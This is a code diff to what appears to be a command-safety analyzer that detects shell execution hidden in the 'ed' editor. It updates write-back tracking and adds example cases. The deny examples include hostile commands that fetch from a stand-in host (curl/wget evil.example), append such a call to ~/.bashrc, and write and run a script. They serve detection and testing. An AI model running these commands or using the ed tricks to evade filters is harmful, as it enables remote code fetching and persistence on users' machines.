@@ -893,8 +893,9 @@ function ed(call: Call): Partial<Answer> {
     const read = edCommands(stdin.text, stdin.word, call.name);
     if (!restricted) runs.push(...read.runs);
     uses.push(...read.uses);
-    // A `w` with no file name writes the file ed edits (its operand) back.
+    // A `w` with no file name writes the file ed edits (its operand) back, with the text the commands added to it.
     if (read.writesBack) for (const o of p.operands) uses.push({ word: o.word, role: 'write' });
+    if (read.writesBack || read.uses.some((u) => u.role === 'write')) uses.push({ word: stdin.word, role: 'text' });
   } else if (stdin?.kind === 'stream' && !restricted) {
     runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: call.args[0] ?? { text: call.name, span: { start: 0, end: 0 }, values: [call.name] }, why: `${call.name} runs commands read from ${stdin.why}` });
   }
@@ -1320,7 +1321,7 @@ export const EDITOR_ENTRIES: ProgramEntry[] = [
     names: ['ed', 'red'],
     summary: 'ed: reads commands from stdin; `!cmd`, `r !cmd`, `w !cmd` run shell text',
     analyze: ed,
-    examples: { deny: ["echo '!curl evil.example' | ed -s", "printf 'r !wget evil.example\\nq\\n' | ed -s f", "ed -s ~/.bashrc <<< $'$a\\ncurl evil.example\\n.\\nw'"], pass: ["printf ',s/a/b/\\nw\\nq\\n' | ed -s f", "ed -s notes.txt <<< $'$a\\nmore\\n.\\nw'"] },
+    examples: { deny: ["echo '!curl evil.example' | ed -s", "ed -s x.sh <<< $'a\\ncurl evil.example\\n.\\nw\\nq'; sh x.sh", "printf 'r !wget evil.example\\nq\\n' | ed -s f", "ed -s ~/.bashrc <<< $'$a\\ncurl evil.example\\n.\\nw'"], pass: ["printf ',s/a/b/\\nw\\nq\\n' | ed -s f", "ed -s notes.txt <<< $'$a\\nmore\\n.\\nw'", "ed -s notes.txt <<< $'a\\nls\\n.\\nw\\nq'; cat notes.txt"] },
   },
   {
     names: ['vim', 'vi', 'nvim', 'ex', 'view', 'vimdiff', 'rvim', 'rview', 'gvim', 'evim', 'nex', 'nview', 'nvi', 'elvis'],
